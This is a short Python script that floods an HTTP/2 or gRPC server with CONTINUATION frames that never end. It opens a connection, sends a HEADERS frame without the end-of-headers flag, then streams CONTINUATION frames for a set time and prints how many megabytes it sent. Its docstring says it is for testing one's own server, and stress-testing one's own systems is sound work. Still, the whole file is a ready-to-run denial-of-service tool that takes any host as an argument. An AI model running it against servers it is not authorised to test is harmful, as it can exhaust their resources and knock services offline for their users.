"""Send header fields without end to the gRPC port of a server of yours, and print how much it took.

Usage: python3 continuation.py HOST PORT SECONDS
"""

import socket
import struct
import sys
import time

SETTINGS, HEADERS, CONTINUATION = 4, 1, 9


def frame(kind: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 without flags (RFC 9113, section 4.1): the headers never end."""
    return struct.pack("!I", len(payload))[1:] + bytes((kind, 0)) + struct.pack("!I", stream) + payload


host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
with socket.create_connection((host, port), timeout=10) as connection:
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0) + frame(HEADERS, 1))
    frames, sent, end = frame(CONTINUATION, 1, b"a") * 1000, 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            connection.sendall(frames)
            sent += len(frames)
    except OSError as error:
        sys.stdout.write(f"the server ended the connection: {error}\n")
sys.stdout.write(f"{sent / 1e6:.0f} MB sent\n")
